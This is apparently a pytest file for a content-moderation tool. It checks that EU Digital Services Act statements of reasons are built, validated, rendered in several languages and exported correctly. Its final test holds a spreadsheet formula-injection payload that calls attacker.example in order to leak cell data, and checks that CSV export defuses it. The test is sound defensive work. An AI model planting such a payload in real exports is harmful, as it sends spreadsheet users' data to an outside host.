"""Statements of reasons: built from decisions, always valid for the DSA database, refused by the
validator exactly where the database refuses, and rendered for the user in their language."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigil.domain.content import Audience, Content, ContentKind, MediaHashes
from vigil.domain.decisions import (
    PLATFORM_ACTIONS,
    Action,
    AutomatedDecision,
    Decision,
    Ground,
    GroundType,
    PolicyRef,
    Source,
    content_subject,
)
from vigil.domain.hashes import VideoFrame
from vigil.domain.jurisdictions import DSA_TERRITORIES, GLOBAL, ISO_COUNTRIES, TerritorialScope
from vigil.domain.signals import Evidence, Signal, SignalKind
from vigil.domain.taxonomy import Category
from vigil.store.statements import StatementState
from vigil.transparency.dsa_schema import FIELDS, LANGUAGES, validate_batch, validate_statement
from vigil.transparency.sor import (
    RESTRICTIONS,
    ExportFormat,
    Standing,
    build_statement,
    export_lines,
    notice_language,
    render_notice,
    restrictions,
    restrictions_changed,
)
from vigil.transparency.sor_texts import TEXTS

NOW = datetime(2026, 3, 14, 9, 26, 53, tzinfo=UTC)
NON_EEA = sorted(ISO_COUNTRIES - DSA_TERRITORIES)
AI = Signal("c2pa", SignalKind.PROVENANCE, None, 1.0, label="ai_generated")


def decision(**changes: Any) -> Decision:
    base = Decision(
        subject=content_subject("post-1"),
        actions=frozenset({Action.REMOVE}),
        category=Category.TERRORISM,
        additional_categories=(),
        ground=Ground(GroundType.ILLEGAL_CONTENT, "Regulation (EU) 2021/784 Art. 3", "Terrorist content."),
        territorial_scope=GLOBAL,
        automated_detection=True,
        automated_decision=AutomatedDecision.FULLY,
        review=None,
        source=Source.VOLUNTARY,
        policies=(PolicyRef("terrorism-known-media", 1),),
    )
    return replace(base, **changes)


def content(**changes: Any) -> Content:
    base = Content(
        "post-1",
        ContentKind.POST,
        Audience.PUBLIC,
        "author-secret-42",
        datetime(2026, 3, 13, 23, 59, tzinfo=UTC),
        channel_id="channel-secret-7",
        language="en",
        text="the private words of the author",
        media=(MediaHashes("m1", "video/mp4", "a" * 32, None, 10),),
    )
    return replace(base, **changes)


def statement(**changes: Any) -> dict[str, Any]:
    built = build_statement("dec_0001", decision(), NOW, content())
    return {**built, **changes}


# ---- what a decision becomes ------------------------------------------------------------------


def test_a_removed_terrorist_video_is_stated_in_the_database_fields() -> None:
    built = build_statement("dec_0001", decision(), NOW, content())

    assert built == {
        "decision_visibility": ["DECISION_VISIBILITY_CONTENT_REMOVED"],
        "decision_ground": "DECISION_GROUND_ILLEGAL_CONTENT",
        "illegal_content_legal_ground": "Regulation (EU) 2021/784 Art. 3",
        "illegal_content_explanation": "Terrorist content.",
        "content_type": ["CONTENT_TYPE_TEXT", "CONTENT_TYPE_VIDEO"],
        "category": "STATEMENT_CATEGORY_RISK_FOR_PUBLIC_SECURITY",
        "category_specification": ["KEYWORD_TERRORIST_CONTENT"],
        "territorial_scope": sorted(DSA_TERRITORIES),
        "content_language": "EN",
        "content_date": "2026-03-13",
        "application_date": "2026-03-14",
        "decision_facts": built["decision_facts"],
        "source_type": "SOURCE_VOLUNTARY",
        "automated_detection": "Yes",
        "automated_decision": "AUTOMATED_DECISION_FULLY",
        "puid": "dec_0001",
    }
    assert list(built) == [f for f in FIELDS if f in built]  # the spec's order
    assert validate_statement(built) == {}


@pytest.mark.parametrize(
    ("action", "field", "value"),
    [
        (Action.REMOVE, "decision_visibility", ["DECISION_VISIBILITY_CONTENT_REMOVED"]),
        (Action.GEO_RESTRICT, "decision_visibility", ["DECISION_VISIBILITY_CONTENT_DISABLED"]),
        (Action.DEMOTE, "decision_visibility", ["DECISION_VISIBILITY_CONTENT_DEMOTED"]),
        (Action.AGE_RESTRICT, "decision_visibility", ["DECISION_VISIBILITY_CONTENT_AGE_RESTRICTED"]),
        (Action.LABEL, "decision_visibility", ["DECISION_VISIBILITY_CONTENT_LABELLED"]),
        (Action.SUSPEND_ACCOUNT, "decision_account", "DECISION_ACCOUNT_SUSPENDED"),
        (Action.BAN_CHANNEL, "decision_account", "DECISION_ACCOUNT_TERMINATED"),
    ],
)
def test_each_restriction_has_its_database_value(action: Action, field: str, value: object) -> None:
    built = build_statement(
        "dec_1", decision(actions=frozenset({action, Action.NOTIFY_USER})), NOW, content()
    )

    assert built[field] == value
    assert {"decision_visibility", "decision_account"} - {field} & set(built) == set()


def test_a_banned_channel_outranks_a_suspended_account_in_the_single_account_field() -> None:
    both = decision(actions=frozenset({Action.DEMOTE, Action.SUSPEND_ACCOUNT, Action.BAN_CHANNEL}))

    built = build_statement("dec_1", both, NOW, content())

    assert built["decision_account"] == "DECISION_ACCOUNT_TERMINATED"
    assert "the channel was terminated; the author's account was suspended" in built["decision_facts"]


@pytest.mark.parametrize(
    "actions",
    [
        frozenset(),
        frozenset({Action.NOTIFY_USER}),
        frozenset({Action.PRESERVE_EVIDENCE, Action.REPORT_HOTLINE, Action.NOTIFY_USER}),
    ],
)
def test_decisions_that_restrict_nothing_have_no_statement(actions: frozenset[Action]) -> None:
    nothing = decision(actions=actions)
    # a restriction held for review before acting is not in force either
    held = decision(actions=actions, held_actions=frozenset({Action.REMOVE}))

    for undecided in (nothing, held):
        assert restrictions(undecided) == frozenset()
        with pytest.raises(ValueError, match="restricts nothing"):
            build_statement("dec_1", undecided, NOW, content())


def test_a_terms_of_service_ground_says_whether_the_category_is_illegal_in_the_eu() -> None:
    terms = Ground(GroundType.INCOMPATIBLE_CONTENT, "Terms § 4.3", "Scams are not allowed.")

    fraud = build_statement("dec_1", decision(category=Category.FRAUD, ground=terms), NOW, content())
    csam = build_statement("dec_2", decision(category=Category.CSAM, ground=terms), NOW, content())

    assert (fraud["decision_ground"], fraud["incompatible_content_ground"]) == (
        "DECISION_GROUND_INCOMPATIBLE_CONTENT",
        "Terms § 4.3",
    )
    assert fraud["incompatible_content_explanation"] == "Scams are not allowed."
    assert "illegal_content_legal_ground" not in fraud
    assert (fraud["incompatible_content_illegal"], csam["incompatible_content_illegal"]) == ("No", "Yes")


def test_ai_generated_media_is_synthetic_and_its_abuse_keywords_say_deepfake() -> None:
    ncii = decision(category=Category.NCII, additional_categories=(Category.CSAM,))
    image = content(text="", media=(MediaHashes("m1", "image/jpeg", None, None, 10),), media_signals=(AI,))

    built = build_statement("dec_1", ncii, NOW, image)

    assert built["content_type"] == ["CONTENT_TYPE_IMAGE", "CONTENT_TYPE_SYNTHETIC_MEDIA"]
    assert built["category"] == "STATEMENT_CATEGORY_CYBER_VIOLENCE"
    assert built["category_addition"] == ["STATEMENT_CATEGORY_PROTECTION_OF_MINORS"]
    assert built["category_specification"] == [
        "KEYWORD_NON_CONSENSUAL_MATERIAL_DEEPFAKE",
        "KEYWORD_CHILD_SEXUAL_ABUSE_MATERIAL_DEEPFAKE",
    ]


def test_fraud_keywords_follow_what_the_classifier_found() -> None:
    fraud = decision(category=Category.FRAUD)
    phishing = Signal("text", SignalKind.CLASSIFIER, Category.FRAUD, 0.95, label="phishing")
    crypto = Signal("text", SignalKind.CLASSIFIER, Category.FRAUD, 0.95, label="crypto_investment")

    assert build_statement("d1", fraud, NOW, content(), [phishing])["category_specification"] == [
        "KEYWORD_PHISHING"
    ]
    other = build_statement("d2", fraud, NOW, content(), [crypto])
    assert other["category_specification"] == ["KEYWORD_OTHER"]
    assert other["category_specification_other"] == "Scam (crypto investment)"


def test_the_territorial_scope_is_the_eea_part_of_the_decisions_scope() -> None:
    mixed = decision(
        actions=frozenset({Action.GEO_RESTRICT}), territorial_scope=TerritorialScope.of(["DE", "US", "GR"])
    )
    outside = decision(
        actions=frozenset({Action.GEO_RESTRICT}), territorial_scope=TerritorialScope.of(["US"])
    )

    assert build_statement("d1", mixed, NOW, content())["territorial_scope"] == ["DE", "GR"]
    assert build_statement("d2", outside, NOW, content())["territorial_scope"] == []


def test_only_trusted_flaggers_and_authorities_are_named_as_the_source() -> None:
    named = {
        source: build_statement("d1", decision(source=source, source_identity="Some Name"), NOW, content())
        for source in Source
    }

    assert {s: v["source_type"] for s, v in named.items()} == {
        Source.VOLUNTARY: "SOURCE_VOLUNTARY",
        Source.REVIEWER: "SOURCE_VOLUNTARY",
        Source.NOTICE: "SOURCE_ARTICLE_16",
        Source.TRUSTED_FLAGGER: "SOURCE_TRUSTED_FLAGGER",
        Source.AUTHORITY_ORDER: "SOURCE_TYPE_OTHER_NOTIFICATION",
    }
    assert {s for s, v in named.items() if "source_identity" in v} == {
        Source.TRUSTED_FLAGGER,
        Source.AUTHORITY_ORDER,
    }


def test_the_facts_name_the_rules_and_findings_but_nothing_about_the_author_or_the_content() -> None:
    found = Signal(
        "md5",
        SignalKind.HASH_MATCH,
        Category.TERRORISM,
        1.0,
        bank="gifct-test",
        bank_version=3,
        hash_type="md5",
        evidence=(Evidence(0, 7, "private", "the author's words"),),
    )
    by_person = decision(automated_decision=AutomatedDecision.NOT_AUTOMATED)

    facts = build_statement("dec_1", by_person, NOW, content(), [found])["decision_facts"]

    assert "hash list 'gifct-test' (version 3; md5, exact)" in facts
    assert "terrorism-known-media (version 1)" in facts
    assert "A person took the decision." in facts
    for private in ("author-secret-42", "channel-secret-7", "post-1", "private", "words"):
        assert private not in facts


def test_the_facts_say_in_which_frame_the_text_was_read_without_quoting_it() -> None:
    framed = Signal(
        "text_classifier",
        SignalKind.CONTEXT,
        None,
        1.0,
        label="counter_speech",
        evidence=(Evidence(0, 7, "private", "counter speech (en.yaml cues[1])"),),
    )

    facts = build_statement("dec_1", decision(), NOW, content(), [framed])["decision_facts"]

    assert "the text_classifier read the text as counter speech" in facts
    assert "private" not in facts


def test_long_or_blank_texts_are_cut_or_filled_to_what_the_database_takes() -> None:
    ground = Ground(GroundType.ILLEGAL_CONTENT, "§" * 900, "   ")

    built = build_statement("d1", decision(ground=ground), NOW, content())

    assert len(built["illegal_content_legal_ground"]) == 500
    assert built["illegal_content_legal_ground"].endswith("…")
    assert built["illegal_content_explanation"] == "The content is illegal under that law."


def test_dates_are_clamped_to_the_ranges_the_database_takes() -> None:
    old = content(created_at=datetime(1995, 5, 1, tzinfo=UTC))

    built = build_statement("d1", decision(), datetime(2041, 1, 1, tzinfo=UTC), old)

    assert (built["content_date"], built["application_date"]) == ("2000-01-01", "2038-01-01")


@pytest.mark.parametrize(
    ("given_language", "signal_language", "expected"),
    [("pt-BR", "", "PT"), ("zh_Hant", "", "ZH"), (None, "ru", "RU"), ("xx", "de", "DE"), ("xx", "", None)],
)
def test_the_content_language_is_an_upper_case_iso_639_1_code_or_nothing(
    given_language: str | None, signal_language: str, expected: str | None
) -> None:
    said = Signal("text", SignalKind.CLASSIFIER, Category.SPAM, 0.5, language=signal_language)

    built = build_statement("d1", decision(), NOW, content(language=given_language), [said])

    assert built.get("content_language") == expected


def test_media_read_back_from_the_store_is_typed_by_its_hashes() -> None:
    stored = content(
        text="",
        media=(
            MediaHashes("a", None, None, None, None, pdq=("0" * 64,)),
            MediaHashes("b", None, None, None, None, vpdq=(VideoFrame("0" * 64, 100, 0.0),)),
        ),
    )
    unknown = content(text="", media=(MediaHashes("c", "application/pdf", "a" * 32, None, 1),))

    assert build_statement("d1", decision(), NOW, stored)["content_type"] == [
        "CONTENT_TYPE_IMAGE",
        "CONTENT_TYPE_VIDEO",
    ]
    other = build_statement("d2", decision(), NOW, unknown)
    assert (other["content_type"], other["content_type_other"]) == (
        ["CONTENT_TYPE_OTHER"],
        "media of a type not recorded",
    )


def test_a_new_statement_is_due_only_when_the_restriction_or_its_place_changes() -> None:
    removed = decision()
    lifted = decision(actions=frozenset({Action.NOTIFY_USER}))
    demoted = decision(actions=frozenset({Action.DEMOTE}))
    elsewhere = decision(territorial_scope=TerritorialScope.of(["DE"]))

    assert restrictions_changed(None, removed)
    assert not restrictions_changed(
        removed, replace(removed, automated_decision=AutomatedDecision.NOT_AUTOMATED)
    )
    assert restrictions_changed(removed, lifted)
    assert restrictions_changed(removed, demoted)
    assert restrictions_changed(removed, elsewhere)
    assert not restrictions_changed(None, lifted)
    assert not restrictions_changed(lifted, lifted)


# ---- every statement is valid (property) ------------------------------------------------------

# short texts, and texts around and beyond the database's limits (500, 2000)
_texts = st.one_of(
    st.text(alphabet=st.characters(codec="utf-8"), max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=490, max_size=2100),
)
_restrictive = st.sets(st.sampled_from(sorted(RESTRICTIONS)), min_size=1)
_ancillary = st.sets(st.sampled_from([Action.PRESERVE_EVIDENCE, Action.REPORT_HOTLINE, Action.NOTIFY_USER]))
_scopes = st.one_of(
    st.just(GLOBAL),
    st.sets(st.sampled_from(sorted(DSA_TERRITORIES)), min_size=1).map(
        lambda chosen: TerritorialScope.of(frozenset(chosen))
    ),
    st.sets(st.sampled_from(NON_EEA), min_size=1).map(lambda chosen: TerritorialScope.of(frozenset(chosen))),
    st.sets(st.sampled_from(sorted(ISO_COUNTRIES)), min_size=1).map(
        lambda chosen: TerritorialScope.of(frozenset(chosen))
    ),
)
_signals = st.lists(
    st.builds(
        Signal,
        detector=st.sampled_from(["md5", "pdq", "text", "c2pa", "iptc_metadata", "nudity"]),
        kind=st.sampled_from(SignalKind),
        category=st.none() | st.sampled_from(Category),
        score=st.floats(0, 1),
        label=st.sampled_from(
            ["", "phishing", "pyramid_scheme", "ai_generated", "ai_edited", "partial_nudity"]
        ),
        bank=st.text(max_size=40),
        bank_version=st.integers(0, 10**6),
        hash_type=st.sampled_from(["", "md5", "pdq", "vpdq"]),
        distance=st.integers(0, 256),
        language=st.sampled_from(["", "en", "pt-BR", "xx", "ru", "??"]),
    ),
    max_size=30,
)
_media = st.lists(
    st.builds(
        MediaHashes,
        media_id=st.text(min_size=1, max_size=10),
        mime_type=st.none()
        | st.sampled_from(["image/png", "video/mp4", "audio/ogg", "application/zip", "x"]),
        md5=st.none(),
        sha256=st.none(),
        size_bytes=st.none(),
        pdq=st.sampled_from([(), ("0" * 64,)]),
        vpdq=st.sampled_from([(), (VideoFrame("0" * 64, 90, 1.0),)]),
    ),
    max_size=3,
)
_contents = st.builds(
    Content,
    id=st.just("post-1"),
    kind=st.sampled_from(ContentKind),
    audience=st.sampled_from(Audience),
    author_id=st.just("author"),
    created_at=st.datetimes(datetime(1970, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)),
    language=st.none() | st.sampled_from(["en", "EN", "fr-CA", "zh_Hant", "xx", "", "e", "tlh"]),
    text=st.sampled_from(["", "   ", "hello"]),
    media=_media.map(tuple),
    media_signals=st.lists(st.just(AI), max_size=1).map(tuple),
)
_decisions = st.builds(
    Decision,
    subject=st.just(content_subject("post-1")),
    actions=st.tuples(_restrictive, _ancillary).map(lambda pair: frozenset(pair[0] | pair[1])),
    category=st.none() | st.sampled_from(Category),
    additional_categories=st.lists(st.sampled_from(Category), max_size=4).map(tuple),
    ground=st.builds(Ground, type=st.sampled_from(GroundType), reference=_texts, explanation=_texts),
    territorial_scope=_scopes,
    automated_detection=st.booleans(),
    automated_decision=st.sampled_from(AutomatedDecision),
    review=st.none(),
    source=st.sampled_from(Source),
    policies=st.lists(
        st.builds(PolicyRef, st.text(min_size=1, max_size=60), st.integers(1, 999)), max_size=3
    ).map(tuple),
    held_actions=st.sets(st.sampled_from(sorted(PLATFORM_ACTIONS))).map(frozenset),
    source_identity=st.none() | _texts,
)


@settings(max_examples=200, deadline=None)
@given(
    decision_id=st.from_regex(r"dec_[0-9a-f]{24}", fullmatch=True),
    made=_decisions,
    item=_contents,
    signals=_signals,
    decided_at=st.datetimes(datetime(1990, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)),
)
def test_every_restrictive_decision_has_a_statement_the_database_accepts(
    decision_id: str, made: Decision, item: Content, signals: list[Signal], decided_at: datetime
) -> None:
    built = build_statement(decision_id, made, decided_at, item, signals)

    assert validate_statement(built) == {}
    assert built["puid"] == decision_id
    assert set(built["territorial_scope"]) <= DSA_TERRITORIES
    if made.territorial_scope.is_global:
        assert built["territorial_scope"] == sorted(DSA_TERRITORIES)
    if made.source not in (Source.TRUSTED_FLAGGER, Source.AUTHORITY_ORDER):
        assert "source_identity" not in built
    assert built.get("content_language") in {None, *LANGUAGES}


# ---- the validator refuses what the database refuses ------------------------------------------


def test_a_valid_statement_passes_and_a_batch_of_them_too() -> None:
    assert validate_statement(statement()) == {}
    assert validate_batch({"statements": [statement(puid=f"p{i}") for i in range(100)]}) == {}


@pytest.mark.parametrize(
    "field",
    [
        "decision_ground",
        "content_type",
        "category",
        "content_date",
        "application_date",
        "decision_facts",
        "source_type",
        "automated_detection",
        "automated_decision",
        "puid",
    ],
)
def test_required_fields_are_required(field: str) -> None:
    missing = statement()
    del missing[field]

    assert field in validate_statement(missing)
    assert field in validate_statement({**missing, field: "  "})


def test_at_least_one_restriction_is_required() -> None:
    bare = statement()
    del bare["decision_visibility"]

    errors = validate_statement({**bare, "decision_account": None, "decision_visibility": []})

    assert set(errors) == {
        "decision_visibility",
        "decision_monetary",
        "decision_provision",
        "decision_account",
    }
    assert validate_statement({**bare, "decision_provision": "DECISION_PROVISION_TOTAL_SUSPENSION"}) == {}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("decision_visibility", ["DECISION_VISIBILITY_CONTENT_HIDDEN"]),
        ("decision_visibility", "DECISION_VISIBILITY_CONTENT_REMOVED"),
        ("decision_monetary", "DECISION_MONETARY_FINE"),
        ("decision_provision", "DECISION_PROVISION_SOME"),
        ("decision_account", "DECISION_ACCOUNT_BANNED"),
        ("account_type", "ACCOUNT_TYPE_BOT"),
        ("decision_ground", "DECISION_GROUND_OTHER"),
        ("content_type", ["CONTENT_TYPE_TEXT", "CONTENT_TYPE_GIF"]),
        ("category", "STATEMENT_CATEGORY_SPAM"),
        ("category_addition", ["STATEMENT_CATEGORY_SPAM"]),
        ("category_specification", ["KEYWORD_SPAM"]),
        ("territorial_scope", ["DE", "GB"]),
        ("territorial_scope", ["EL"]),
        ("content_language", "en"),
        ("content_language", "XX"),
        ("source_type", "SOURCE_OTHER"),
        ("automated_detection", "yes"),
        ("automated_decision", "AUTOMATED_DECISION_SOMEWHAT"),
        ("decision_ground_reference_url", "not a url"),
        ("content_id", {"EAN-13": "123"}),
    ],
)
def test_values_outside_the_enumerations_are_refused(field: str, value: object) -> None:
    assert field in {k.split(".")[0] for k in validate_statement(statement(**{field: value}))}


@pytest.mark.parametrize(
    ("field", "limit"),
    [
        ("illegal_content_legal_ground", 500),
        ("illegal_content_explanation", 2000),
        ("decision_facts", 5000),
        ("puid", 500),
        ("source_identity", 500),
        ("decision_ground_reference_url", 500),
    ],
)
def test_texts_longer_than_the_limit_are_refused(field: str, limit: int) -> None:
    at_limit = "https://x.eu/" + "a" * (limit - 13) if field.endswith("url") else "a" * limit
    source = {"source_type": "SOURCE_TRUSTED_FLAGGER"} if field == "source_identity" else {}

    assert validate_statement(statement(**source, **{field: at_limit})) == {}
    assert field in validate_statement(statement(**source, **{field: at_limit + "a"}))


@pytest.mark.parametrize("puid", ["dec 1", "dec/1", "dé", "a.b", "x\n"])
def test_a_puid_takes_only_letters_digits_hyphens_and_underscores(puid: str) -> None:
    assert validate_statement(statement(puid=puid)) == {"puid": ["The puid field format is invalid."]}
    assert validate_statement(statement(puid="Abc_DEF-123")) == {}


def test_the_ground_decides_which_texts_are_required_and_which_excluded() -> None:
    illegal = statement()
    del illegal["illegal_content_explanation"]
    terms = statement(
        decision_ground="DECISION_GROUND_INCOMPATIBLE_CONTENT",
        incompatible_content_ground="Terms § 1",
        incompatible_content_explanation="Not allowed.",
        incompatible_content_illegal="Maybe",
    )

    assert list(validate_statement(illegal)) == ["illegal_content_explanation"]
    assert set(validate_statement(terms)) == {
        "illegal_content_legal_ground",
        "illegal_content_explanation",
        "incompatible_content_illegal",
    }
    assert set(validate_statement(statement(incompatible_content_illegal="Yes"))) == {
        "incompatible_content_illegal"
    }


def test_an_other_text_goes_exactly_with_its_other_value() -> None:
    assert "decision_visibility_other" in validate_statement(
        statement(decision_visibility=["DECISION_VISIBILITY_OTHER"])
    )
    assert (
        validate_statement(
            statement(decision_visibility=["DECISION_VISIBILITY_OTHER"], decision_visibility_other="hidden")
        )
        == {}
    )
    assert "decision_visibility_other" in validate_statement(statement(decision_visibility_other="hidden"))
    assert "content_type_other" in validate_statement(statement(content_type=["CONTENT_TYPE_OTHER"]))
    assert "content_type_other" in validate_statement(statement(content_type_other="a game"))
    assert "decision_monetary_other" in validate_statement(
        statement(decision_monetary="DECISION_MONETARY_OTHER")
    )


@pytest.mark.parametrize(
    ("field", "value", "accepted"),
    [
        ("content_date", "2000-01-01", True),
        ("content_date", "1999-12-31", False),
        ("content_date", "2038-01-01", True),
        ("content_date", "2038-01-02", False),
        ("content_date", "2024-1-5", False),
        ("content_date", "2024-02-30", False),
        ("content_date", "2024-01-05T10:00", False),
        ("application_date", "2020-01-01", True),
        ("application_date", "2019-12-31", False),
        ("end_date_visibility_restriction", "2027-01-01", True),
        ("end_date_account_restriction", "01/01/2027", False),
    ],
)
def test_dates_are_days_within_the_databases_ranges(field: str, value: str, accepted: bool) -> None:
    assert (validate_statement(statement(**{field: value})) == {}) is accepted


def test_a_voluntary_statement_names_no_source_and_no_unknown_field_passes() -> None:
    assert "source_identity" in validate_statement(statement(source_identity="Someone"))
    assert "territorial_scopes" in validate_statement(statement(territorial_scopes=["DE"]))


def test_a_batch_is_one_to_a_hundred_statements_refused_whole_naming_the_bad_ones() -> None:
    good, bad = statement(), statement(category="STATEMENT_CATEGORY_SPAM", puid="bad puid")

    assert "statements" in validate_batch({"statements": []})
    assert "statements" in validate_batch({"statements": [good] * 101})
    assert "statements" in validate_batch([good])
    errors = validate_batch({"statements": [good, bad, good, "no"]})
    assert set(errors) == {"statement_1", "statement_3"}
    assert set(errors["statement_1"]) == {"category", "puid"}


# ---- what the user reads --------------------------------------------------------------------------


def test_every_language_says_everything_english_says_with_the_same_placeholders() -> None:
    fields = re.compile(r"{(\w+)}")
    english = TEXTS["en"]

    assert {"en", "fr", "de", "es", "id", "ru"} <= set(TEXTS)
    for lang, texts in TEXTS.items():
        assert set(texts) == set(english), lang
        for key, text in texts.items():
            assert sorted(fields.findall(text)) == sorted(fields.findall(english[key])), (lang, key)
            assert text.strip(), (lang, key)


def test_a_notice_in_force_tells_the_user_the_measure_the_reasons_and_the_redress_in_french() -> None:
    geo = decision(
        actions=frozenset({Action.GEO_RESTRICT}), territorial_scope=TerritorialScope.of(["DE", "US"])
    )
    built = build_statement("dec_1", geo, NOW, content())

    notice = render_notice(
        built,
        language="fr",
        content_id="post-1",
        scope=geo.territorial_scope,
        standing=Standing(StatementState.IN_FORCE),
        appeal_until=date(2026, 9, 13),
    )

    assert notice.parts["measures"] == ["L'accès au contenu a été bloqué."]
    assert notice.parts["scope"] == "Cela s'applique uniquement dans ces pays : DE, US."
    assert "Regulation (EU) 2021/784 Art. 3" in notice.parts["ground"]
    assert notice.parts["category"] == "Catégorie : Risque pour la sécurité publique."
    assert [r["kind"] for r in notice.parts["redress"]] == [
        "internal_complaint",
        "out_of_court_dispute_settlement",
        "court",
    ]
    assert notice.parts["redress"][0]["until"] == "2026-09-13"
    assert "jusqu'au 2026-09-13" in notice.text
    assert "article 21 du DSA" in notice.text


def test_a_revoked_notice_says_the_restriction_was_lifted_and_offers_nothing_to_contest() -> None:
    built = build_statement("dec_1", decision(), NOW, content())

    notice = render_notice(
        built,
        language="ru",
        content_id="post-1",
        scope=GLOBAL,
        standing=Standing(StatementState.REVOKED, changed_on=date(2026, 4, 1)),
        appeal_until=date(2026, 9, 13),
    )

    assert notice.parts["state_note"] == "2026-04-01 это решение отменено: ограничение снято."
    assert notice.parts["redress"] == []


def test_the_notice_language_is_the_one_asked_for_else_the_contents_else_english() -> None:
    assert notice_language("DE", statement()) == "de"
    assert notice_language(None, statement(content_language="ES")) == "es"
    assert notice_language(None, statement(content_language="JA")) == "en"
    with pytest.raises(ValueError, match="available: en, fr, de, es, id, ru"):
        notice_language("tlh", statement())


def test_an_export_writes_one_json_object_a_line_or_a_csv_column_a_field() -> None:
    rows = [statement(puid="a"), statement(puid="b")]

    jsonl = "".join(export_lines(rows, ExportFormat.JSONL)).splitlines()
    csv_lines = "".join(export_lines(rows, ExportFormat.CSV)).splitlines()

    assert [line.count("\n") for line in jsonl] == [0, 0]
    assert csv_lines[0] == ",".join(FIELDS)
    assert len(csv_lines) == 3
    assert '"AT,BE,BG' in csv_lines[1]


def test_a_csv_export_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
    rows = [statement(puid="a", illegal_content_explanation=hostile)]

    [header, row] = list(csv.reader(io.StringIO("".join(export_lines(rows, ExportFormat.CSV)))))
    [jsonl] = "".join(export_lines(rows, ExportFormat.JSONL)).splitlines()

    assert row[header.index("illegal_content_explanation")] == "'" + hostile
    assert json.loads(jsonl)["illegal_content_explanation"] == hostile
